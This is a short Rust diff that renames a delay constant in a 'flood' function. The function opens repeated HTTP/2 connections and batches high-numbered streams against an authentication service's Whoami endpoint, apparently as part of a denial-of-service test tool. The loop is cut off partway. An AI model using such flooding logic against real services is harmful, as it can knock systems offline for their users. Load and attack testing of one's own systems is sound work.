@@ -11,13 +11,13 @@ const CONNECTIONS: u32 = 10;
 /// The number of streams of a batch, and the interval between two batches.
 const BATCH_SIZE: u32 = 100;
 const BATCH_INTERVAL: Duration = Duration::from_millis(100);
-const RETRY_DELAY: Duration = Duration::from_millis(100);
+const REPEAT_DELAY: Duration = Duration::from_millis(100);
 /// The largest stream id that the attack uses on a connection.
 const MAX_STREAM_ID: u32 = 1 << 30;
 
 pub async fn flood(attacker: Arc<Attacker>) {
     attacker
-        .repeat(CONNECTIONS, RETRY_DELAY, |attacker, _| async move {
+        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, _| async move {
             let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
             let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
             let mut begun = 0;
